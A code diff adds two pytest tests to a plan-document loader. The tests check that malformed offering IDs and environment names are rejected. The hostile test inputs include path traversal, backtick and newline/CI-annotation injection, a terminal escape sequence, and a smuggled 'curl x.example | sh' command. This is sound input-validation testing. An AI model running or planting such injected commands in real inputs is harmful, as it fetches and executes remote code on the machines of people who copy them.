@@ -238,6 +238,31 @@ def test_a_damaged_plan_is_refused(damage: Callable[[dict[str, Any]], None]) -> 
     assert raised.value.hint == "Make a new one: offerctl plan --out FILE"
 
 
+@pytest.mark.parametrize("id_", [".", "..", "a/b", "`x`", "a\n::error::x"])
+@pytest.mark.parametrize("place", ["change", "target", "exclude", "refusal", "protections", "contested"])
+def test_what_can_be_no_id_is_refused_wherever_it_stands(place: str, id_: str) -> None:
+    """Before it is shown, compared or sent."""
+    document = example()
+    match place:
+        case "change":
+            document["changes"][0]["offering_id"] = id_
+        case "target" | "exclude":
+            document["options"][place] = [id_]
+        case "refusal":
+            document["refusals"] = [{"code": "empty", "offering_ids": [id_], "message": "no", "hint": None}]
+        case _:
+            document[place] = {id_: True}
+    with pytest.raises(UsageError, match="cannot be an offeringId"):
+        plan_document.load(canon.document(document))
+
+
+@pytest.mark.parametrize("name", ["prod\x1b[2J", "prod; curl x.example | sh"])
+def test_an_environment_that_no_configuration_can_have_is_no_plans(name: str) -> None:
+    """`show` would print it, and write it into commands that people copy."""
+    with pytest.raises(UsageError, match="cannot be the name of an environment"):
+        plan_document.load(canon.document(example() | {"environment": name}))
+
+
 @pytest.mark.parametrize(
     "edit", [{"intent": Intent.REPLACE}, {"action": Action.DELETE}, {"intent": Intent.DELETE}, {"after": None}]
 )
